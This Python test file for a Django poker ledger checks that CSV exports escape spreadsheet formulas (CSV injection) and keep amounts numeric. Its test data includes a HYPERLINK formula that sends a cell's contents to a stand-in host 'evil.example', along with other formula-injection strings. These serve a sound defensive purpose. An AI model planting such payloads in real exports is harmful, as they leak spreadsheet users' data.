"""CSV files: a name is never a formula in a spreadsheet (OWASP "CSV Injection"), and the numbers
Pott writes stay numbers."""

from __future__ import annotations

import csv
import io

import pytest
from django.test import Client

from config.text import spreadsheet_text
from ledger.models import Player, Session
from tests.pages import a_settled_night

pytestmark = pytest.mark.django_db

# What a spreadsheet would run: a formula, arithmetic, a function, the same after a tab or a
# carriage return.
FORMULAS = ['=HYPERLINK("http://evil.example/?leak="&A1,"Pay here")', "+1+1", "-5", "@SUM(A1:A9)",
            "\t=1+1", "\r=1+1"]  # fmt: skip
# Split into a second cell, a formula, by a spreadsheet that separates cells with semicolons
# (Excel in Swedish, German, Icelandic).
SEMICOLON = 'Bo;=HYPERLINK("http://evil.example")'


@pytest.mark.parametrize("name", FORMULAS)
def test_text_that_a_spreadsheet_would_run_gets_an_apostrophe(name: str) -> None:
    assert spreadsheet_text(name) == "'" + name


@pytest.mark.parametrize("name", ["Anna", "Bo-Göran", "Åsa = the boss", "'quoted", "", "50"])
def test_other_text_stays_as_it_is(name: str) -> None:
    assert spreadsheet_text(name) == name


def rows(content: bytes) -> list[list[object]]:
    """The file as a spreadsheet reads it: quoted cells are text, unquoted ones numbers."""
    return list(csv.reader(io.StringIO(content.decode()), quoting=csv.QUOTE_NONNUMERIC))


@pytest.fixture
def hostile_night(logged_in: Client, host: object) -> Session:
    return a_settled_night(logged_in, host, (FORMULAS[0], "-5", SEMICOLON), "=1+1")


def test_the_session_csv_neutralises_names_and_keeps_numbers(
    logged_in: Client, hostile_night: Session
) -> None:
    response = logged_in.get(f"/ledger/sessions/{hostile_night.pk}/players.csv")
    transfers = logged_in.get(f"/ledger/sessions/{hostile_night.pk}/transfers.csv")

    assert sorted(rows(response.content)[1:]) == [
        ["'-5", 200, 0, 200, 150, -50, "SEK"],
        ["'" + FORMULAS[0], 200, 0, 200, 350, 150, "SEK"],
        [SEMICOLON, 200, 0, 200, 100, -100, "SEK"],
    ]
    assert sorted(row[:4] for row in rows(transfers.content)[1:]) == [
        ["'-5", "'" + FORMULAS[0], 50, "SEK"],
        [SEMICOLON, "'" + FORMULAS[0], 100, "SEK"],
    ]
    # Text is quoted, so a spreadsheet splitting at semicolons keeps the name in one cell.
    assert '"Bo;=HYPERLINK(""http://evil.example"")"' in response.content.decode()
    assert '"Bo;=HYPERLINK(""http://evil.example"")"' in transfers.content.decode()


def test_the_history_csv_neutralises_names_and_session_names(
    logged_in: Client, hostile_night: Session
) -> None:
    response = logged_in.get("/ledger/history.csv")

    lines = rows(response.content)[1:]
    assert sorted((line[1], line[2], line[5]) for line in lines) == [
        ("'=1+1", "'-5", -50),
        ("'=1+1", "'" + FORMULAS[0], 150),
        ("'=1+1", SEMICOLON, -100),
    ]


def test_every_csv_writer_uses_the_one_helper() -> None:
    """A new CSV export must go through config.text (csv_writer, spreadsheet_text)."""
    from pathlib import Path

    root = Path(__file__).resolve().parents[2]
    writers = [
        path.relative_to(root).as_posix()
        for folder in ("config", "dealer", "ledger")
        for path in (root / folder).rglob("*.py")
        if "csv.writer(" in path.read_text() or "csv.DictWriter(" in path.read_text()
    ]
    assert writers == ["config/text.py"]


def test_a_player_named_like_a_number_is_text_in_the_csv(logged_in: Client, host: object) -> None:
    night = a_settled_night(logged_in, host, ("100", "Bo", "Cia"), "Friday")
    response = logged_in.get(f"/ledger/sessions/{night.pk}/players.csv")

    assert rows(response.content)[1][0] == "100"
    assert Player.objects.filter(name="100").exists()


def test_amounts_are_in_currency_units_with_their_minor_digits(
    logged_in: Client, host: object
) -> None:
    """A spreadsheet sums "392.85", not 39285 öre: each amount is written in the currency's
    units with as many decimals as the currency has, one table per file."""
    night = a_settled_night(logged_in, host, ("Anna", "Bo", "Cia"), "Friday")
    text = logged_in.get(f"/ledger/sessions/{night.pk}/players.csv").content.decode()
    transfers = logged_in.get(f"/ledger/sessions/{night.pk}/transfers.csv").content.decode()

    header, *lines = text.splitlines()
    assert header.split(",")[5] == '"result"'
    assert sorted(line.split(",")[5] for line in lines) == ["-100.00", "-50.00", "150.00"]
    assert transfers.splitlines()[0] == '"payer","payee","amount","currency","paid_at"'
    assert sorted(line.split(",")[2] for line in transfers.splitlines()[1:]) == ["100.00", "50.00"]


def test_an_amount_keeps_the_currency_s_own_decimals() -> None:
    from decimal import Decimal

    from ledger.settlement import decimal_amount

    assert str(decimal_amount(39285, "SEK")) == "392.85"
    assert str(decimal_amount(-5, "EUR")) == "-0.05"
    assert (
        decimal_amount(1800, "ISK") == Decimal(1800) and str(decimal_amount(1800, "ISK")) == "1800"
    )
